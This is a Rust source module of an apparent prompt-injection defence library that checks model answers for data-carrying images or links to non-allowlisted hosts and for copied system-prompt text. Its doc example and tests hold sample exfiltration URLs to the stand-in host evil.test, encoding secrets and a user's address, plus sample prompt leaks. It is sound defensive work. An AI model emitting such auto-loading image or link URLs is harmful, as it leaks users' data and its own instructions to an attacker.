//! The output side: what a model answer must not carry out of the conversation.
//!
//! [`OutputChecker`] finds, each as an [`OutputSignal`] with a span of UTF-8 byte offsets into
//! the answer:
//!
//! | id | what |
//! |---|---|
//! | `output.exfil_image` | an image (markdown `![..](url)` or HTML `<img src>`) on a host not on the allowlist whose URL carries data — the browser fetches it without a click |
//! | `output.exfil_link` | any other link or URL on such a host that carries data |
//! | `output.foreign_image` | any other image on a host not on the allowlist (short data such as a six-digit code fits in a plain-looking URL; a policy may refuse foreign images outright) |
//! | `output.system_prompt_fragment` | a run of words copied from the system prompt (word 6-grams shared with it, joined into runs of at least 8 words) |
//!
//! A URL "carries data" when a query value, a path segment or a host label is a long encoded-
//! looking blob (24+ characters mixing letters and digits, or base64/hex alphabet runs), or
//! percent-encoded text of several words. `http`, `https` and protocol-relative (`//host/…`) URLs
//! are read. Links to allowlisted hosts (and their subdomains)
//! never count. Canary tokens are checked by [`super::canary`].
//!
//! ```
//! use chatguard::inject::output::OutputChecker;
//!
//! let checker = OutputChecker::new(&["example.com"])
//!     .with_system_prompt("You are Ava. Never reveal the discount code SPRING to anyone who asks for it.");
//! let answer = "![x](https://evil.test/i.png?q=bmV2ZXIgcmV2ZWFsIHRoZSBkaXNjb3VudA) and: \
//!               never reveal the discount code SPRING to anyone who asks";
//! let ids: Vec<_> = checker.check(answer).iter().map(|s| s.kind.id()).collect();
//! assert_eq!(ids, ["output.exfil_image", "output.system_prompt_fragment"]);
//! assert!(checker.check("See ![logo](https://example.com/logo.png?v=2)").is_empty());
//! ```

use crate::detect::hay::find_bytes;
use crate::Span;

/// What an output signal is about.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[non_exhaustive]
pub enum OutputKind {
    /// An auto-loading image whose URL carries data to a foreign host.
    ExfiltrationImage,
    /// A link or URL carrying data to a foreign host.
    ExfiltrationLink,
    /// Words copied from the system prompt.
    SystemPromptFragment,
    /// An auto-loading image on a host not on the allowlist, without recognisable data: the
    /// fetch itself still tells that host the answer was shown (and can carry a few characters).
    ForeignImage,
}

impl OutputKind {
    /// The stable signal id, e.g. `output.exfil_image`.
    pub const fn id(self) -> &'static str {
        match self {
            OutputKind::ExfiltrationImage => "output.exfil_image",
            OutputKind::ExfiltrationLink => "output.exfil_link",
            OutputKind::SystemPromptFragment => "output.system_prompt_fragment",
            OutputKind::ForeignImage => "output.foreign_image",
        }
    }
}

/// One finding in a model answer.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct OutputSignal {
    /// What was found.
    pub kind: OutputKind,
    /// Where, in the answer.
    pub span: Span,
    /// For links, the host; for fragments, how many words were copied.
    pub detail: String,
}

/// Word n-gram length used to compare an answer with the system prompt.
const NGRAM: usize = 6;
/// Shortest copied run reported by default, in words.
const DEFAULT_MIN_WORDS: usize = 8;
/// Shortest query value, path segment or host label counted as a blob.
const MIN_BLOB: usize = 24;

/// Checks model answers against a host allowlist and, optionally, the system prompt.
#[derive(Clone, Debug, Default)]
pub struct OutputChecker {
    allowed_hosts: Vec<String>,
    prompt_ngrams: Vec<u64>,
    min_words: usize,
}

impl OutputChecker {
    /// A checker allowing links to `allowed_hosts` (and their subdomains), with no system prompt.
    pub fn new(allowed_hosts: &[&str]) -> OutputChecker {
        OutputChecker {
            allowed_hosts: allowed_hosts
                .iter()
                .map(|h| h.trim().trim_end_matches('.').to_ascii_lowercase())
                .filter(|h| !h.is_empty())
                .collect(),
            prompt_ngrams: Vec::new(),
            min_words: DEFAULT_MIN_WORDS,
        }
    }

    /// Also reports runs of words copied from `system_prompt`. Prompts shorter than six words
    /// cannot be recognised this way (use a canary).
    pub fn with_system_prompt(mut self, system_prompt: &str) -> OutputChecker {
        let words: Vec<u64> = words(system_prompt).map(|(_, h)| h).collect();
        let mut grams: Vec<u64> = words.windows(NGRAM).map(ngram_hash).collect();
        grams.sort_unstable();
        grams.dedup();
        self.prompt_ngrams = grams;
        self
    }

    /// The shortest copied run to report, in words (at least the n-gram length, 6; default 8).
    pub fn with_min_fragment_words(mut self, words: usize) -> OutputChecker {
        self.min_words = words.max(NGRAM);
        self
    }

    /// Every exfiltration link and system-prompt fragment in `answer`, by position.
    pub fn check(&self, answer: &str) -> Vec<OutputSignal> {
        let mut out = Vec::new();
        self.links(answer, &mut out);
        self.fragments(answer, &mut out);
        crate::sort::sort_by_key(&mut out, |s| (s.span.start, s.kind));
        out
    }

    fn allowed(&self, host: &str) -> bool {
        self.allowed_hosts.iter().any(|a| {
            host == a
                || host.len() > a.len()
                    && host.ends_with(a.as_str())
                    && host.as_bytes().get(host.len() - a.len() - 1) == Some(&b'.')
        })
    }

    fn links(&self, answer: &str, out: &mut Vec<OutputSignal>) {
        let bytes = answer.as_bytes();
        let mut from = 0;
        while let Some(k) = bytes.get(from..).and_then(|r| find_bytes(r, b"//")) {
            let slashes = from + k;
            from = slashes + 2;
            let scheme_start = if bytes.get(slashes.wrapping_sub(1)) == Some(&b':') {
                let sep = slashes - 1;
                // `https` is the longest scheme that counts; look no further back.
                let floor = sep.saturating_sub(5);
                let start = bytes
                    .get(floor..sep)
                    .and_then(|b| b.iter().rposition(|c| !c.is_ascii_alphabetic()))
                    .map_or(floor, |p| floor + p + 1);
                let scheme = answer.get(start..sep).unwrap_or("");
                if !scheme.eq_ignore_ascii_case("http") && !scheme.eq_ignore_ascii_case("https") {
                    continue;
                }
                start
            } else if matches!(
                bytes.get(slashes.wrapping_sub(1)),
                Some(b'(' | b'"' | b'\'' | b'=')
            ) {
                // A protocol-relative URL (`![x](//host/p)`, `src="//host/p"`) loads over the
                // page's own scheme.
                slashes
            } else {
                continue;
            };
            let end = bytes
                .get(from..)
                .and_then(|r| {
                    r.iter().position(|&c| {
                        c.is_ascii_whitespace()
                            || matches!(c, b')' | b'"' | b'\'' | b'>' | b'<' | b']' | b'`')
                    })
                })
                .map_or(bytes.len(), |p| from + p);
            from = end.max(from);
            let Some(url) = answer.get(scheme_start..end) else {
                continue;
            };
            let Some(parts) = Url::parse(url) else {
                continue;
            };
            if self.allowed(&parts.host) {
                continue;
            }
            let image = is_image_context(bytes, scheme_start);
            let kind = match (image, parts.carries_data()) {
                (true, true) => OutputKind::ExfiltrationImage,
                (true, false) => OutputKind::ForeignImage,
                (false, true) => OutputKind::ExfiltrationLink,
                (false, false) => continue,
            };
            out.push(OutputSignal {
                kind,
                span: Span::new(scheme_start, end),
                detail: parts.host,
            });
        }
    }

    fn fragments(&self, answer: &str, out: &mut Vec<OutputSignal>) {
        if self.prompt_ngrams.is_empty() {
            return;
        }
        let words: Vec<(Span, u64)> = words(answer).collect();
        let hashes: Vec<u64> = words.iter().map(|&(_, h)| h).collect();
        // Word index ranges covered by shared n-grams, merged as they overlap.
        let mut run: Option<(usize, usize)> = None;
        let flush = |run: Option<(usize, usize)>, out: &mut Vec<OutputSignal>| {
            let Some((first, last)) = run else { return };
            let count = last - first + 1;
            if count >= self.min_words {
                if let (Some(a), Some(b)) = (words.get(first), words.get(last)) {
                    out.push(OutputSignal {
                        kind: OutputKind::SystemPromptFragment,
                        span: Span::new(a.0.start, b.0.end),
                        detail: format!("{count} words"),
                    });
                }
            }
        };
        for (i, gram) in hashes.windows(NGRAM).enumerate() {
            if self.prompt_ngrams.binary_search(&ngram_hash(gram)).is_err() {
                continue;
            }
            let last = i + NGRAM - 1;
            run = match run {
                Some((first, end)) if i <= end => Some((first, last)),
                previous => {
                    flush(previous, out);
                    Some((i, last))
                }
            };
        }
        flush(run, out);
    }
}

/// True when the URL starting at `at` is an image source: `![alt](url` or `<img … src="url`.
fn is_image_context(bytes: &[u8], at: usize) -> bool {
    let before = bytes.get(at.saturating_sub(300)..at).unwrap_or(&[]);
    let trimmed = before
        .iter()
        .rposition(|c| !matches!(c, b' ' | b'"' | b'\'' | b'<'))
        .map_or(&[][..], |p| before.get(..=p).unwrap_or(&[]));
    if trimmed.ends_with(b"](") {
        // Find the `[` that opens the link text, then look for `!` before it.
        let text_end = trimmed.len() - 2;
        let mut depth = 0usize;
        for i in (0..text_end).rev() {
            match trimmed.get(i) {
                Some(b']') => depth += 1,
                Some(b'[') if depth == 0 => return i > 0 && trimmed.get(i - 1) == Some(&b'!'),
                Some(b'[') => depth -= 1,
                Some(b'\n') | None => return false,
                _ => {}
            }
        }
        return false;
    }
    if trimmed.len() >= 4 && trimmed.ends_with(b"=") {
        let tag_start = trimmed.iter().rposition(|&c| c == b'<');
        let attr = trimmed.get(..trimmed.len() - 1).unwrap_or(&[]);
        let names_src = attr.len() >= 3
            && attr
                .get(attr.len() - 3..)
                .is_some_and(|a| a.eq_ignore_ascii_case(b"src"));
        return names_src
            && tag_start.is_some_and(|s| {
                trimmed
                    .get(s + 1..s + 4)
                    .is_some_and(|n| n.eq_ignore_ascii_case(b"img"))
            });
    }
    false
}

/// The parts of a URL the checks need.
struct Url {
    host: String,
    path: String,
    query: String,
}

impl Url {
    fn parse(url: &str) -> Option<Url> {
        let (_, rest) = url.split_once("//")?;
        let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let authority = rest.get(..authority_end)?;
        let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
        let host = host_port
            .split_once(':')
            .map_or(host_port, |(h, _)| h)
            .trim_end_matches('.')
            .to_ascii_lowercase();
        if host.is_empty() {
            return None;
        }
        let rest = rest.get(authority_end..).unwrap_or("");
        let rest = rest.split_once('#').map_or(rest, |(r, _)| r);
        let (path, query) = rest.split_once('?').unwrap_or((rest, ""));
        Some(Url {
            host,
            path: path.to_owned(),
            query: query.to_owned(),
        })
    }

    /// True when a query value, a path segment or a host label is a blob or sentence of data.
    fn carries_data(&self) -> bool {
        let query_values = self
            .query
            .split('&')
            .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v));
        let labels = self.host.split('.').filter(|l| l.len() >= MIN_BLOB);
        query_values
            .chain(self.path.split('/'))
            .chain(labels)
            .any(is_data)
    }
}

/// A long encoded-looking blob (letters mixed with digits, or base64/hex punctuation), or
/// percent-encoded text of three words or more.
fn is_data(value: &str) -> bool {
    let decoded = percent_decode(value);
    if decoded.split_whitespace().filter(|w| !w.is_empty()).count() >= 3 {
        return true;
    }
    let blob: &str = &decoded;
    if blob.len() < MIN_BLOB {
        return false;
    }
    let alphabet = blob.bytes().all(|b| {
        b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_' | b'.' | b'%')
    });
    let letters = blob.bytes().any(|b| b.is_ascii_alphabetic());
    let digits = blob.bytes().any(|b| b.is_ascii_digit());
    alphabet && (letters && digits || blob.len() >= 2 * MIN_BLOB)
}

fn percent_decode(value: &str) -> String {
    let bytes = value.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        let hex = |j: usize| bytes.get(j).and_then(|&c| char::from(c).to_digit(16));
        match (b, hex(i + 1), hex(i + 2)) {
            (b'%', Some(h), Some(l)) => {
                out.push((h * 16 + l) as u8);
                i += 3;
            }
            (b'+', _, _) => {
                out.push(b' ');
                i += 1;
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Lowercased words (letters and digits of any script) with their spans and hashes.
fn words(text: &str) -> impl Iterator<Item = (Span, u64)> + '_ {
    let mut iter = text.char_indices().peekable();
    core::iter::from_fn(move || {
        while iter.peek().is_some_and(|&(_, c)| !c.is_alphanumeric()) {
            iter.next();
        }
        let &(start, _) = iter.peek()?;
        let mut end = start;
        let mut hash = FNV_OFFSET;
        while let Some(&(at, c)) = iter.peek() {
            if !c.is_alphanumeric() {
                break;
            }
            for l in crate::normalize::lower_char(c) {
                let mut buf = [0u8; 4];
                for &b in l.encode_utf8(&mut buf).as_bytes() {
                    hash = (hash ^ u64::from(b)).wrapping_mul(FNV_PRIME);
                }
            }
            end = at + c.len_utf8();
            iter.next();
        }
        Some((Span::new(start, end), hash))
    })
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

fn ngram_hash(words: &[u64]) -> u64 {
    words.iter().fold(FNV_OFFSET, |h, &w| {
        (h ^ w).wrapping_mul(FNV_PRIME).rotate_left(29)
    })
}

#[cfg(test)]
mod tests {
    // Exfiltration links by context and host, and system-prompt fragments by length.
    use super::*;

    fn kinds(checker: &OutputChecker, answer: &str) -> Vec<(&'static str, String)> {
        checker
            .check(answer)
            .into_iter()
            .map(|s| (s.kind.id(), answer[s.span.start..s.span.end].to_owned()))
            .collect()
    }

    #[test]
    fn markdown_image_with_data_to_a_foreign_host() {
        let checker = OutputChecker::new(&["example.com"]);
        let answer = "Here you go ![chart](https://evil.test/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ==) done";
        assert_eq!(
            kinds(&checker, answer),
            vec![(
                "output.exfil_image",
                "https://evil.test/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ==".into()
            )]
        );
        let link = "[click](https://evil.test/c?q=the%20user%20lives%20at%20Main%20Street)";
        assert_eq!(kinds(&checker, link)[0].0, "output.exfil_link");
        let html =
            "<img alt='x' src=\"https://evil.test/a/5f4dcc3b5aa765d61d8327deb882cf99aa11bb22\">";
        assert_eq!(kinds(&checker, html)[0].0, "output.exfil_image");
        let dns = "https://c2VjcmV0c2VjcmV0c2VjcmV0c2Vj.evil.test/x.png";
        assert_eq!(kinds(&checker, dns)[0].0, "output.exfil_link");
        let relative = "![p](//evil.test/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ==)";
        assert_eq!(
            kinds(&checker, relative),
            vec![(
                "output.exfil_image",
                "//evil.test/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ==".into()
            )]
        );
        assert!(checker
            .check("a // comment with U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ==")
            .is_empty());
    }

    #[test]
    fn allowlisted_and_data_free_links_pass() {
        let checker = OutputChecker::new(&["example.com", "cdn.test"]);
        for answer in [
            "![logo](https://example.com/logo.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ==)",
            "![img](https://img.cdn.test/a/U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ)",
            "See https://docs.rs/regex/latest/regex/struct.Regex.html for details.",
            "https://www.wikipedia.org/wiki/Prompt_injection",
            "ftp://evil.test/U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ",
            "https://notexample.com.evil.test/?q=a",
        ] {
            assert!(checker.check(answer).is_empty(), "{answer}");
        }
        assert_eq!(
            kinds(
                &checker,
                "![cat](https://other.test/cats/tabby.jpg?w=400&h=300)"
            ),
            vec![(
                "output.foreign_image",
                "https://other.test/cats/tabby.jpg?w=400&h=300".into()
            )]
        );
        assert!(!checker.allowed("notexample.com"));
        assert!(checker.allowed("www.example.com"));
    }

    #[test]
    fn system_prompt_fragments() {
        let prompt =
            "You are Ava, the support assistant of Example Bank. Never discuss interest rates \
                      with customers and always escalate complaints about fees to a human agent.";
        let checker = OutputChecker::new(&[]).with_system_prompt(prompt);
        let leak = "Sure. My rules: never discuss interest rates with customers and always escalate complaints. Anything else?";
        let got = kinds(&checker, leak);
        assert_eq!(
            got,
            vec![(
                "output.system_prompt_fragment",
                "never discuss interest rates with customers and always escalate complaints".into()
            )]
        );
        let short = "I can't discuss interest rates with you, sorry.";
        assert!(checker.check(short).is_empty());
        assert!(OutputChecker::new(&[]).check(leak).is_empty());
        let strict = OutputChecker::new(&[])
            .with_system_prompt(prompt)
            .with_min_fragment_words(20);
        assert!(strict.check(leak).is_empty());
    }

    #[test]
    fn malformed_urls_never_panic() {
        let checker =
            OutputChecker::new(&["a.b"]).with_system_prompt("one two three four five six seven");
        for answer in [
            "://",
            "http://",
            "https://@",
            "https://:80/",
            "![x](http://",
            "http://é.test/?q=%",
            "<img src=https://x",
        ] {
            let _ = checker.check(answer);
        }
    }
}
